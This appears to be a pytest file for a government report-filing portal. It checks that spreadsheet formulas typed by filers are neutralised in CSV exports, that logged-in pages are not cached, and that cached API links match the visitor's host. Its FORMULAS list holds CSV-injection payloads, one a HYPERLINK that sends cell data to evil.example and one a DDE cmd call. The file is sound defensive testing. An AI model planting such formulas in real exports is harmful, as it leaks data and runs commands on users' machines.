"""No side channels: a spreadsheet never runs what a filer typed, and no browser or proxy keeps a staff page."""

import csv
import datetime
import io

import pytest

from reports.agencies.models import Agency, AgencyKind
from reports.filing import services
from reports.filing.models import ReportState
from reports.filing.spreadsheets import safe_cell
from tests.factories import report_in_state
from tests.publishing import forget_cached_pages, published_report, report_from_snapshot, snapshot

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1"]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("value", ["19.2", "-3", "-0.5", "12%", 5, -7, None, "检查企业", "1.2万家"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_the_open_data_csv_neutralises_formulas_a_filer_typed(client, places):
    forget_cached_pages()
    point = {
        "heading": "执法",
        "paragraphs": ["检查企业19.2万家。"],
        "indicators": [
            {"name": FORMULAS[0], "value": "19.2", "unit": "@SUM(A1:A9)"},
            {"name": "变化", "value": "-3", "unit": "家"},
        ],
    }
    content = snapshot(places.sx_emergency, 2023, measures={"chapters": [{"heading": "", "points": [point]}]})
    report_from_snapshot(places.sx_emergency, services.open_cycle(year=2023), content, datetime.date(2024, 3, 1))
    response = client.get("/open-data/indicators.csv?year=2023")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [row[9:12] for row in rows[1:]] == [
        ["'" + FORMULAS[0], "19.2", "'@SUM(A1:A9)"],
        ["变化", "-3", "家"],
    ]


def test_the_reviewers_csv_neutralises_formulas(client, places, cycle, sx_reviewer):
    Agency.objects.create(code="sx-x", name="=1+1 山西省某厅", region=places.shanxi, kind=AgencyKind.DEPARTMENT)
    client.force_login(sx_reviewer)
    response = client.get("/review/2024/?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert "'=1+1 山西省某厅" in [row[0] for row in rows]


def test_every_page_for_someone_logged_in_is_not_stored(client, places, cycle, sx_filer, sx_reviewer):
    report = report_in_state(ReportState.SUBMITTED, places.sx_emergency, cycle, sx_filer, sx_reviewer)
    client.force_login(sx_filer)
    for url in [
        f"/work/reports/{report.pk}/",
        f"/work/reports/{report.pk}/preview/",
        f"/work/reports/{report.pk}/export.docx",
        "/inbox/",
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url
    client.force_login(sx_reviewer)
    response = client.get(f"/review/reports/{report.pk}/")
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


def test_public_pages_for_visitors_stay_cacheable(client, places, cycle, sx_filer, sx_reviewer):
    forget_cached_pages()
    published_report(places.sx_emergency, cycle, sx_filer, sx_reviewer)
    response = client.get("/published/2024/sx-yjglt/")
    assert "public" in response["Cache-Control"] and "no-store" not in response["Cache-Control"]


def test_a_cached_page_with_absolute_urls_is_not_served_to_a_reader_of_another_host(
    client, places, cycle, sx_filer, sx_reviewer, settings
):
    """The API's links are absolute: a reader who came by the intranet name, or by HTTPS, gets their own."""
    settings.ALLOWED_HOSTS = ["portal.gov.cn", "portal.intranet"]
    forget_cached_pages()
    published_report(places.sx_emergency, cycle, sx_filer, sx_reviewer)
    for host, secure in [("portal.intranet", False), ("portal.gov.cn", False), ("portal.gov.cn", True)]:
        response = client.get("/api/v1/reports/", HTTP_HOST=host, secure=secure)
        assert response.status_code == 200
        scheme = "https" if secure else "http"
        links = [row["url"] for row in response.json()["results"]]
        assert links and all(link.startswith(f"{scheme}://{host}/published/") for link in links), links
